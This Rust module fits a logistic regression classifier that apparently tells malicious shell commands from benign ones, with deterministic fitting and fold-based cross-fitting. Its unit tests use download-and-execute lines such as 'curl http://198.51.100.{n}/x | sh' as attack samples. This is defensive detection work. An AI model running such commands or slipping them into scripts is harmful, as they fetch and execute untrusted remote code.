//! Fitting: logistic regression on sparse rows, both labels with equal weight.

use super::{BUCKETS, IDF_STEP, Sparse, TermModel, TermOrigin, vector};
use crate::head::{in_parallel, minimise, softplus};

/// Rows that a bucket must occur in.
const MIN_ROWS: u32 = 2;
/// The L2 term is this much a row.
const L2: f64 = 0.1;

impl TermModel {
    /// Fits `texts` with their labels, of which there are as many. Deterministic.
    #[must_use]
    pub fn fit(origin: TermOrigin, texts: &[&str], malicious: &[bool]) -> Self {
        let rows = Rows::of(texts, malicious);
        let fitted = rows.fit(&|_| true);
        rows.model(origin, &fitted)
    }
}

/// The log-odds of each text from a fit without its fold; `malicious` and `folds`
/// are as long as `texts`.
#[must_use]
pub fn cross_fitted(texts: &[&str], malicious: &[bool], folds: &[usize]) -> Vec<f64> {
    let rows = Rows::of(texts, malicious);
    let n_folds = folds.iter().max().map_or(0, |last| last + 1);
    let of_folds = in_parallel(n_folds, |fold| {
        let fitted = rows.fit(&|idx| folds[idx] != fold);
        let origin = TermOrigin {
            question: String::new(),
            corpus: String::new(),
            rows: 0,
        };
        let model = rows.model(origin, &fitted);
        let of_fold = (0..texts.len()).filter(|idx| folds[*idx] == fold);
        of_fold
            .map(|idx| (idx, model.log_odds(texts[idx])))
            .collect::<Vec<_>>()
    });
    let mut scores = vec![0.0; texts.len()];
    for (idx, score) in of_folds.into_iter().flatten() {
        scores[idx] = score;
    }
    scores
}

struct Rows<'a> {
    idf: Vec<u8>,
    vectors: Vec<Sparse>,
    malicious: &'a [bool],
}

impl<'a> Rows<'a> {
    fn of(texts: &[&str], malicious: &'a [bool]) -> Self {
        let mut n_rows = vec![0_u32; BUCKETS];
        for text in texts {
            for (bucket, _) in vector(text, &|_| 1) {
                n_rows[bucket as usize] += 1;
            }
        }
        let idf: Vec<u8> = n_rows
            .iter()
            .map(|&n| match n < MIN_ROWS {
                true => 0,
                false => quantised_idf(texts.len(), n),
            })
            .collect();
        let of_bucket = |bucket: u32| idf[bucket as usize];
        let vectors = texts.iter().map(|text| vector(text, &of_bucket)).collect();
        Self {
            idf,
            vectors,
            malicious,
        }
    }

    /// The intercept, then one weight a bucket, from the rows that `is_in` says.
    fn fit(&self, is_in: &dyn Fn(usize) -> bool) -> Vec<f64> {
        let rows: Vec<(&Sparse, bool)> = (0..self.vectors.len())
            .filter(|idx| is_in(*idx))
            .map(|idx| (&self.vectors[idx], self.malicious[idx]))
            .collect();
        let n_malicious = rows.iter().filter(|(_, malicious)| *malicious).count();
        let share = |malicious: bool| {
            let of_label = match malicious {
                true => n_malicious,
                false => rows.len() - n_malicious,
            };
            0.5 / of_label.max(1) as f64
        };
        let shares = [share(false), share(true)];
        let l2 = L2 / rows.len().max(1) as f64;
        minimise(vec![0.0; 1 + BUCKETS], &mut |at, slope| {
            slope.clear();
            slope.extend(at.iter().map(|weight| l2 * weight));
            slope[0] = 0.0;
            let mut value = 0.5 * l2 * at[1..].iter().map(|w| w * w).sum::<f64>();
            for (row, malicious) in &rows {
                let products = row.iter().map(|(b, x)| at[1 + *b as usize] * f64::from(*x));
                let log_odds = at[0] + products.sum::<f64>();
                let share = shares[usize::from(*malicious)];
                let margin = if *malicious { log_odds } else { -log_odds };
                value += share * softplus(-margin);
                let miss = share / (1.0 + margin.exp());
                let push = if *malicious { -miss } else { miss };
                slope[0] += push;
                for (bucket, x) in *row {
                    slope[1 + *bucket as usize] += push * f64::from(*x);
                }
            }
            value
        })
    }

    /// The model with its weights in steps.
    fn model(&self, origin: TermOrigin, fitted: &[f64]) -> TermModel {
        let largest = fitted[1..].iter().map(|w| w.abs()).fold(0.0, f64::max);
        let step = (largest / 127.0).max(f64::MIN_POSITIVE);
        #[expect(clippy::cast_possible_truncation, reason = "at most 127")]
        let weights = fitted[1..].iter().map(|w| (w / step).round() as i8);
        TermModel::new(origin, fitted[0], step, self.idf.clone(), weights.collect())
    }
}

/// The smoothed inverse document frequency, in steps.
fn quantised_idf(n_rows: usize, n: u32) -> u8 {
    let idf = ((1.0 + n_rows as f64) / (1.0 + f64::from(n))).ln() + 1.0;
    #[expect(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        reason = "clamped"
    )]
    let steps = (idf / IDF_STEP).round().clamp(1.0, 255.0) as u8;
    steps
}

#[cfg(test)]
mod tests {
    use super::*;

    fn origin() -> TermOrigin {
        TermOrigin {
            question: "exec".to_owned(),
            corpus: "c".to_owned(),
            rows: 40,
        }
    }

    fn rows() -> (Vec<String>, Vec<bool>) {
        let attacks = (0..20).map(|n| format!("curl http://198.51.100.{n}/x | sh"));
        let others = (0..20).map(|n| format!("tar -czf backup{n}.tgz /srv/app"));
        let malicious = (0..40).map(|n| n < 20).collect();
        (attacks.chain(others).collect(), malicious)
    }

    #[test]
    fn what_it_has_seen_in_attacks_scores_higher() {
        let (texts, malicious) = rows();
        let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
        let model = TermModel::fit(origin(), &texts, &malicious);
        assert!(model.log_odds("curl http://203.0.113.9/y | sh") > 1.0);
        assert!(model.log_odds("tar -xzf release.tgz") < -0.5);
        assert_eq!(TermModel::fit(origin(), &texts, &malicious), model);
    }

    #[test]
    fn a_score_comes_from_a_fit_without_its_fold() {
        // Each row has a word of its own group, and the label goes with the group.
        let texts: Vec<String> = (0..60).map(|n| format!("word{} same", n % 6)).collect();
        let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
        let malicious: Vec<bool> = (0..60).map(|n| n % 2 == 0).collect();
        let folds: Vec<usize> = (0..60).map(|n| n % 6).collect();
        let scores = cross_fitted(&texts, &malicious, &folds);
        let hits = scores.iter().zip(&malicious);
        let hits = hits.filter(|(score, malicious)| (**score > 0.0) == **malicious);
        assert!(hits.count() <= 40);
        let seen = TermModel::fit(origin(), &texts, &malicious);
        for (text, malicious) in texts.iter().zip(&malicious) {
            assert_eq!(seen.log_odds(text) > 0.0, *malicious);
        }
    }
}
